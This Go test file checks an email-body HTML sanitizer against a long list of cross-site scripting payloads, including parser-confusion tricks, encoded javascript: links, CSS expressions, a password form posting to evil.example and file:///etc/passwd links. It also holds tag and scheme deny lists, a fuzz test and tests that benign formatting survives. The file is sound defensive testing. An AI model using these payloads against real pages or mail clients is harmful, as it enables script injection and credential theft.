package bodies

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attacks are tried whole, and inside a letter. Each has what must not be left.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script/x>`,
	"<script\x00>alert(1)</script>",
	`<script>alert(1)`,
	`<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	"<img src=x\nonerror\n=\nalert(1)>",
	`<img src="javascript:alert(1)">`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<body onload=alert(1)>`,
	`<body background="javascript:alert(1)">`,
	`<table background="javascript:alert(1)"><td background="data:text/html,x">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\" \x01javascript:alert(1)\">x</a>",
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<a href="view-source:javascript:alert(1)">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="ms-msdt:/id PCWDiagnostic">x</a>`,
	`<a onclick="alert(1)" onmouseover='alert(1)' href="https://example.com">x</a>`,
	`<a href="https://example.com" ONFOCUS=alert(1) autofocus tabindex=1>x</a>`,
	`<form action="https://evil.example"><input name=password type=password><button>ok</button></form>`,
	`<button form=f formaction="javascript:alert(1)">x</button>`,
	`<input type=image src=x onerror=alert(1)>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<select onfocus=alert(1)><option>x</select><textarea onfocus=alert(1)></textarea><keygen autofocus onfocus=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"><embed src="https://evil.example/x.swf"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code=x></applet><portal src=//evil.example></portal>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=x>`,
	`<style>@import 'https://evil.example/x.css'; body{background:url("javascript:alert(1)")}</style>`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p style="width:exp/**/ression(alert(1))">x</p>`,
	`<p style="width:\65xpression(alert(1))">x</p>`,
	`<p style="behavior:url(https://evil.example/x.htc)">x</p>`,
	`<p style="-moz-binding:url(https://evil.example/x.xml#y)">x</p>`,
	`<p style="x:expression&#40;alert(1)&#41;">x</p>`,
	`<div style="background-image:\0075\0072\006C\0028'javascript:alert(1)'\0029">x</div>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--!><img src=x onerror=alert(1)>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><x onclick=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noembed><img src="</noembed><iframe onload=alert(1)>"></noembed>`,
	`<noframes><script>alert(1)</script></noframes>`,
	`<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
	`<title><img src="</title><img src=x onerror=alert(1)>"></title>`,
	`<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<template><script>alert(1)</script></template>`,
	`<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<marquee onstart=alert(1)>x</marquee><bgsound src="javascript:alert(1)">`,
	`<x onclick=alert(1) style="position:fixed">x</x><custom-tag onclick=alert(1)>`,
	`<p/onclick=alert(1)>x<p "onclick=alert(1)>x<p 'x'onclick=alert(1)>`,
	"<p on\x00click=alert(1)>x</p><p \x0conclick=alert(1)>",
	`<a href=https://example.com/"onclick="alert(1)>x</a>`,
	`<img alt="` + "`" + `><script>alert(1)</script>" src=x>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<p title="&quot; onclick=&quot;alert(1)">x</p>`,
	`<p title='x" onclick="alert(1)'>x</p>`,
	"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>", "<scri\xffpt>alert(1)</scri\xffpt>",
	strings.Repeat("<div>", 400) + `<script>alert(1)</script>`,
	strings.Repeat("<", 3000) + `script>alert(1)</script>`,
}

var (
	forbidden = map[string]bool{"script": true, "form": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true,
		"applet": true, "meta": true, "base": true, "link": true, "style": true, "svg": true, "math": true, "input": true, "button": true,
		"textarea": true, "select": true, "noscript": true, "template": true, "video": true, "audio": true, "portal": true, "isindex": true}
	schemes = map[string]bool{"http": true, "https": true, "mailto": true, "tel": true, "sms": true, "callto": true, "sip": true, "ftp": true, "cid": true, "mid": true}
)

// harm is what of a document, as a browser would read it, could act.
func harm(t *testing.T, doc string) (found []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		return nil // deeper than the parser goes
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			found = append(found, "a comment")
		}
		if n.Type != html.ElementNode {
			continue
		}
		if forbidden[n.Data] {
			found = append(found, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			value := strings.Map(func(r rune) rune {
				if r <= ' ' {
					return -1
				}
				return r
			}, strings.ToLower(a.Val))
			scheme, _, colon := strings.Cut(value, ":")
			address := a.Key == "href" || a.Key == "src" || a.Key == "background" || a.Key == "cite"
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "srcdoc", a.Key == "action", a.Key == "formaction", strings.Contains(a.Key, ":"):
				found = append(found, a.Key+"=")
			case address && colon && !schemes[scheme] && !strings.ContainsAny(scheme, "/?#") &&
				!strings.HasPrefix(value, "data:image/png;base64,") && !strings.HasPrefix(value, "data:image/gif;base64,"):
				found = append(found, a.Key+"="+a.Val)
			case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression(") || strings.ContainsAny(value, `\@<>`)):
				found = append(found, "style="+a.Val)
			}
		}
	}
	return found
}

func TestNothingThatActsIsLeft(t *testing.T) {
	for _, attack := range attacks {
		for _, doc := range []string{attack, `<html><body><p>before` + attack + `</p>after</body></html>`,
			`<p title="` + attack + `">x</p>`, `<a href='` + attack + `'>x</a>`, `<table><tr>` + attack, `<b><i>` + attack + `</b></i>`} {
			safe := Safe(doc)
			if found := harm(t, safe); len(found) > 0 {
				t.Errorf("%.200q\nleaves %q\nin %.300q", doc, found, safe)
			}
			if again := Safe(safe); len(harm(t, again)) > 0 {
				t.Errorf("%.200q is harmful the second time: %.300q", doc, again)
			}
		}
	}
}

func FuzzSafe(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, doc string) {
		if found := harm(t, Safe(doc)); len(found) > 0 {
			t.Errorf("%q leaves %q", doc, found)
		}
	})
}

func TestWhatIsToBeReadStays(t *testing.T) {
	for doc, want := range map[string]string{
		`no tags, 1 & 2`: `no tags, 1 & 2`,
		`<p style="color:#333; font:12px/1.5 'Segoe UI',&quot;Calibri&quot;; margin:0 0 1em">a</p>`: `<p style="color:#333; font:12px/1.5 &#39;Segoe UI&#39;,&#34;Calibri&#34;; margin:0 0 1em">a</p>`,
		`<a href="https://example.com/a?b=1&amp;c=2#d" target="_blank">a</a>`:                       `<a href="https://example.com/a?b=1&amp;c=2#d" target="_blank">a</a>`,
		`<a href="#part">a</a><a name="part">b</a><a href="mailto:ann@contoso.example">c</a>`:       `<a href="#part">a</a><a name="part">b</a><a href="mailto:ann@contoso.example">c</a>`,
		`<img src="cid:image001.png@01D" width="10" alt="plan"><br><hr>`:                            `<img src="cid:image001.png@01D" width="10" alt="plan"><br><hr>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`:                                            `<img src="data:image/png;base64,iVBORw0KGgo=">`,
		`<table border="0" bgcolor="#fff"><tr><td colspan="2" align="left">a</td></tr></table>`:     `<table border="0" bgcolor="#fff"><tr><td colspan="2" align="left">a</td></tr></table>`,
		`<font face="Arial" color="red">a</font><span>b</span><blockquote>c</blockquote>`:           `<font face="Arial" color="red">a</font><span>b</span><blockquote>c</blockquote>`,
		`<frameset><frame src="x">rest`:                                                             `rest`,
		`<noscript>a</noscript><object>b`:                                                           `ab`,
		`<form><label>a</label> b</form>`:                                                           `a b`,
		`<p style="background:url(x)">ä 🧗</p>`:                                                      `<p>ä 🧗</p>`,
	} {
		if got := Safe(doc); got != want {
			t.Errorf("Safe(%s)\n got %s\nwant %s", doc, got, want)
		}
	}
}

func TestBodiesInTheFormThatIsWanted(t *testing.T) {
	const page, text = `<p onclick="x">a<br>b</p>`, "a <b>\r\n  & c"
	for _, test := range []struct {
		form                      Form
		kind, content, want, made string
	}{
		{Form{}, "html", page, "html", `<p>a<br>b</p>`},
		{Form{As: "html"}, "html", page, "html", `<p>a<br>b</p>`},
		{Form{Original: true}, "html", page, "html", page},
		{Form{As: "html", Original: true}, "html", page, "html", page},
		{Form{As: "text"}, "html", page, "text", "a\nb"},
		{Form{}, "text", text, "text", text},
		{Form{As: "text"}, "text", text, "text", text},
		{Form{As: "html"}, "text", text, "html", `<html><body><div style="white-space:pre-wrap">a &lt;b&gt;<br>  &amp; c</div></body></html>`},
	} {
		kind, content := test.form.Of(test.kind, test.content)
		if kind != test.want || strings.TrimSpace(content) != test.made {
			t.Errorf("%+v of %s %q: got %s %q, want %s %q", test.form, test.kind, test.content, kind, content, test.want, test.made)
		}
	}
}

func TestCleanedBodiesAreKeptInBounds(t *testing.T) {
	var k kept
	made := 0
	clean := func(s string) string { made++; return "<" + s }
	large := strings.Repeat("a", 100<<10)
	for range 3 {
		if got := k.of("once", clean); got != "<once" || made != 1 {
			t.Fatalf("got %q after %d times", got, made)
		}
	}
	for i := range 200 {
		k.of(large+string(rune('a'+i)), clean)
		k.of("once", clean)
	}
	if made != 201 {
		t.Errorf("cleaned %d times, want 201: what is asked for stays", made)
	}
	if n := len(k.young) + len(k.old); n > 2*keptBytes/len(large)+4 {
		t.Errorf("%d are kept", n)
	}
	for range 2 {
		k.of(strings.Repeat(large, 6), clean)
	}
	if made != 203 {
		t.Errorf("cleaned %d times, want 203: what is very large is not kept", made)
	}
}

func BenchmarkSafe(b *testing.B) {
	doc := `<html><body>` + strings.Repeat(`<table width="100%"><tr><td style="color:#333;padding:4px" align="left"><p>Some words of a letter, and <a href="https://example.com/x?y=1">a link</a>.</p></td></tr></table>`, 25) + `</body></html>`
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		policy().Sanitize(doc)
	}
}
